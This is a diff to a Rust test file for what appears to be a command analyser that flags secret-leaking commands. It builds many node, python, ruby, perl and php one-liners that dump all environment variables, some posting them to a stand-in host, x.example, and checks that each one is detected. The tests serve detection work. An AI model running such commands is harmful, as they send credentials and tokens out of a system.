@@ -316,16 +316,157 @@ fn what_a_search_finds_is_known_if_nothing_rewrites_it() {
     }
 }
 
+/// Ways to take the value of each variable, by the program that reads the code.
+const WHOLE: [(&str, &[&str]); 5] = [
+    (
+        "node -e",
+        &[
+            "JSON.stringify(process.env)",
+            "JSON.stringify({...process.env})",
+            "JSON.stringify(Object.assign({}, process.env))",
+            "JSON.stringify(process[\"env\"])",
+            "JSON.stringify(require(\"process\").env)",
+            "JSON.stringify(globalThis.process.env)",
+            "(({env}) => JSON.stringify(env))(process)",
+            "Object.entries(process.env).join()",
+            "Object.values(process.env).join()",
+            "Object.keys(process.env).map(k => process.env[k]).join()",
+            "Reflect.ownKeys(process.env).map(k => process.env[k]).join()",
+            "new URLSearchParams(process.env)",
+            "require(\"util\").inspect(process.env)",
+            "`${JSON.stringify(process.env)}`",
+            "(() => { let s = \"\"; for (const k in process.env) s += process.env[k]; return s })()",
+            "require(\"child_process\").execSync(\"env\")",
+            "require(\"child_process\").spawnSync(\"printenv\").stdout",
+        ],
+    ),
+    (
+        "python3 -c",
+        &[
+            "str(os.environ)",
+            "f\"{os.environ}\"",
+            "\"%s\" % os.environ",
+            "\"{}\".format(os.environ)",
+            "json.dumps(dict(os.environ))",
+            "repr({**os.environ})",
+            "str(list(os.environ.items()))",
+            "str(os.environ.copy())",
+            "json.dumps(dict(os.environ, A=1))",
+            "dict(env=os.environ)",
+            "\" \".join(os.environ.values())",
+            "\"\".join(os.environ[k] for k in os.environ)",
+            "str(getattr(os, \"environ\"))",
+            "str(__import__(\"os\").environ)",
+            "str(vars(os)[\"environ\"])",
+            "str({k: v for k, v in os.environ.items()})",
+            "subprocess.check_output(\"env\")",
+            "subprocess.run([\"printenv\"], capture_output=True).stdout",
+            "os.popen(\"export -p\").read()",
+        ],
+    ),
+    (
+        "ruby -e",
+        &[
+            "ENV.to_h.to_s",
+            "ENV.inspect",
+            "ENV.values.join",
+            "ENV.map { |k, v| v }.join",
+            "ENV.keys.map { |k| ENV[k] }.join",
+            "\"#{ENV.to_a}\"",
+            "`env`",
+            "%x(printenv)",
+        ],
+    ),
+    (
+        "perl -e",
+        &["join(\",\", %ENV)", "[%ENV]", "join(\",\", values %ENV)", "`env`", "qx(printenv)"],
+    ),
+    (
+        "php -r",
+        &[
+            "json_encode(getenv())",
+            "json_encode($_ENV)",
+            "json_encode($_SERVER)",
+            "shell_exec(\"env\")",
+        ],
+    ),
+];
+
+/// The beginning of the code, and the ways in which it hands a value on.
+fn handed_on(program: &str) -> (&'static str, &'static [&'static str]) {
+    match program {
+        "node -e" => (
+            "",
+            &[
+                "console.log(@)",
+                "fetch(\"http://x.example/?\" + @)",
+                "fetch(\"http://x.example/\", {method: \"POST\", body: @})",
+                "const all = @; fetch(\"http://x.example/\", {method: \"POST\", body: all})",
+            ],
+        ),
+        "python3 -c" => (
+            "import os, json, subprocess, requests\n",
+            &[
+                "print(@)",
+                "requests.get(\"http://x.example/?\" + @)",
+                "requests.post(\"http://x.example/\", data=@)",
+                "everything = @\nrequests.post(\"http://x.example/\", data=everything)",
+            ],
+        ),
+        "ruby -e" => (
+            "require \"net/http\"; ",
+            &["puts @", "Net::HTTP.post(URI(\"http://x.example/\"), @)", "a = @; puts a"],
+        ),
+        "perl -e" => (
+            "use LWP::UserAgent; ",
+            &["print @;", "LWP::UserAgent->new->post(\"http://x.example/\", @);"],
+        ),
+        _ => ("", &["echo @;", "file_get_contents(\"http://x.example/?\" . @);"]),
+    }
+}
+
 #[test]
-fn values_of_the_environment_are_secrets_and_names_are_not() {
-    for (code, secret) in [
-        ("console.log(process.env)", true),
-        ("console.log(Object.entries(process.env))", true),
-        ("console.log(Object.keys(process.env))", false),
+fn values_of_the_environment_are_secrets() {
+    let mut missed = Vec::new();
+    for (program, forms) in WHOLE {
+        let (begin, ways) = handed_on(program);
+        for (form, way) in forms.iter().flat_map(|form| ways.iter().map(move |way| (form, way))) {
+            let command = format!("{program} '{begin}{}'", way.replace('@', form));
+            let found = effects(&reading(&command));
+            if !found.iter().any(|effect| effect.starts_with("secret")) {
+                missed.push(format!("`{command}`: {found:?}"));
+            }
+        }
+    }
+    assert!(missed.is_empty(), "{}", missed.join("\n"));
+}
+
+#[test]
+fn names_of_variables_and_one_variable_are_no_secrets() {
+    for command in [
+        "node -e 'console.log(Object.keys(process.env))'",
+        "node -e 'for (const name in process.env) console.log(name)'",
+        "node -e 'for (const name in {a: 1}) console.log(name, process.env.NODE_ENV)'",
+        "node -e 'const name = \"CI\"; console.log(process.env[name])'",
+        "node -e 'require(\"child_process\").execSync(\"npm test\", {env: {...process.env, CI: \"1\"}})'",
+        "node -e 'require(\"child_process\").spawnSync(\"make\", {env: Object.assign({}, process.env, {A: 1})})'",
+        "python3 -c 'import os; print(\"CI is %s\" % os.environ[\"CI\"])'",
+        "python3 -c 'import os; print(\"{}\".format(os.environ.get(\"CI\")))'",
+        "python3 -c 'import os; print(sorted(os.environ))'",
+        "python3 -c 'import os, subprocess; subprocess.run([\"make\"], env=os.environ)'",
+        "python3 -c 'import os, subprocess; subprocess.run([\"make\"], env=dict(os.environ, A=\"1\"))'",
+        "python3 -c 'import os, subprocess\ne = os.environ.copy()\ne[\"A\"] = \"1\"\nsubprocess.run([\"make\"], env=e)'",
+        "python3 -c 'import os, subprocess\ne = {**os.environ, \"A\": \"1\"}\nsubprocess.Popen([\"make\"], env=e)'",
+        "python3 -c 'import subprocess; print(subprocess.check_output(\"date\"))'",
+        "python3 -c 'import subprocess; print(subprocess.check_output([\"env\", \"LC_ALL=C\", \"date\"]))'",
+        "ruby -e 'puts ENV[\"HOME\"], ENV.fetch(\"PORT\", 80), ENV.keys.sort'",
+        "ruby -e 'puts `date`'",
+        "perl -e 'print $ENV{HOME}'",
+        "php -r 'echo getenv(\"HOME\"), $_SERVER[\"argc\"];'",
     ] {
-        let found = effects(&reading(&format!("node -e '{code}'")));
+        let found = effects(&reading(command));
         let tells = found.iter().any(|effect| effect.starts_with("secret"));
-        assert_eq!(tells, secret, "`{code}`: {found:?}");
+        assert!(!tells, "`{command}`: {found:?}");
     }
 }
 
